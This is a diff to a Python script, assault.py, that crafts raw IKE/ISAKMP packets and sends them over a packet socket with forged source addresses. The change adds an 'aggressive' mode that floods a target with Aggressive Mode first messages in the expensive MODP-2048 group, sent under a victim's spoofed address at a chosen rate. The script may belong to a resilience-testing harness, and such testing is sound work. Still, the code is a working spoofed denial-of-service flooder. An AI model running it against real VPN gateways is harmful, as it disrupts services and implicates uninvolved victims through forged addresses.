@@ -3,6 +3,7 @@
 
     assault.py malformed PORT MAC PCAP TARGET PER_SECOND COUNT SEED   real messages, damaged in all ways
     assault.py flood PORT MAC TARGET VICTIM PER_SECOND SECONDS          first messages, by VICTIM and by anybody
+    assault.py aggressive PORT MAC TARGET VICTIM PER_SECOND SECONDS     those of aggressive mode, by VICTIM alone
     assault.py probe SOURCE TARGET SECONDS                            an honest client, once a second
 
 Attackers' frames leave by a packet socket, so any source address can be claimed. The first line printed says
@@ -144,16 +145,36 @@ def malformed(port: str, mac: str, pcap: str, target: str, per_second: str, coun
     send(port, iter(frames), len(frames), int(per_second))
 
 
-def first_message(cookie: int) -> bytes:
-    """AES-256, SHA2-256, group 19, pre-shared key: acceptable, so that each makes a half-open entry."""
+def proposal_of(group: int) -> bytes:
+    """An SA body: AES-256, SHA2-256, pre-shared key."""
     attributes = struct.pack(
-        "!12H", 0x8001, 7, 0x800E, 256, 0x8002, 4, 0x8003, 1, 0x8004, 19, 0x800B, 1
+        "!12H", 0x8001, 7, 0x800E, 256, 0x8002, 4, 0x8003, 1, 0x8004, group, 0x800B, 1
     ) + struct.pack("!HHI", 12, 4, 86400)
     transform = struct.pack("!BBHBBH", 0, 0, 8 + len(attributes), 1, 1, 0) + attributes
     proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transform), 1, 1, 0, 1) + transform
-    body = struct.pack("!II", 1, 1) + proposal
-    payload = struct.pack("!BBH", 0, 0, 4 + len(body)) + body
-    return with_length(struct.pack("!QQBBBBII", cookie, 0, 1, 0x10, 2, 0, 0, 0) + payload)
+    return struct.pack("!II", 1, 1) + proposal
+
+
+def message_of(cookie: int, exchange: int, *payloads: tuple[int, bytes]) -> bytes:
+    """The first message of an exchange: payloads are (type, body)."""
+    kinds = [kind for kind, _ in payloads] + [0]
+    octets = struct.pack("!QQBBBBII", cookie, 0, kinds[0], 0x10, exchange, 0, 0, 0)
+    for (_, body), after in zip(payloads, kinds[1:]):
+        octets += struct.pack("!BBH", after, 0, 4 + len(body)) + body
+    return with_length(octets)
+
+
+def first_message(cookie: int) -> bytes:
+    """Acceptable, so that each makes a half-open entry."""
+    return message_of(cookie, 2, (1, proposal_of(19)))
+
+
+def first_aggressive_message(victim: bytes) -> bytes:
+    """Acceptable, by the victim's name, in the group that costs an answer most: MODP-2048."""
+    rng = random.Random(2)
+    key_exchange, nonce = rng.randbytes(256), rng.randbytes(32)
+    identity = struct.pack("!BBH", 1, 0, 0) + victim
+    return message_of(0, 4, (1, proposal_of(14)), (4, key_exchange), (10, nonce), (5, identity))
 
 
 def first_frames(mac: bytes, own: bytes, target: bytes, victim: bytes) -> Iterator[bytes]:
@@ -168,6 +189,20 @@ def first_frames(mac: bytes, own: bytes, target: bytes, victim: bytes) -> Iterat
         struct.pack_into("!H4s", octets, 24, ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF, source)
         struct.pack_into("!Q", octets, 42, cookie)
         yield octets
+
+
+def aggressive(port: str, mac: str, target: str, victim: str, per_second: str, seconds: str) -> None:
+    hardware, rate, name = bytes.fromhex(mac.replace(":", "")), int(per_second), socket.inet_aton(victim)
+    octets = bytearray(
+        frame(hardware, own_mac(port), name, socket.inet_aton(target), 500, first_aggressive_message(name))
+    )
+
+    def frames() -> Iterator[bytes]:
+        for cookie in itertools.count(random.Random(1).randrange(1 << 60)):
+            struct.pack_into("!Q", octets, 42, cookie)
+            yield octets
+
+    send(port, frames(), rate * int(seconds), rate)
 
 
 def flood(port: str, mac: str, target: str, victim: str, per_second: str, seconds: str) -> None:
@@ -197,4 +232,4 @@ def probe(source: str, target: str, seconds: str) -> None:
 
 
 if __name__ == "__main__":
-    {"malformed": malformed, "flood": flood, "probe": probe}[sys.argv[1]](*sys.argv[2:])
+    {"malformed": malformed, "flood": flood, "aggressive": aggressive, "probe": probe}[sys.argv[1]](*sys.argv[2:])
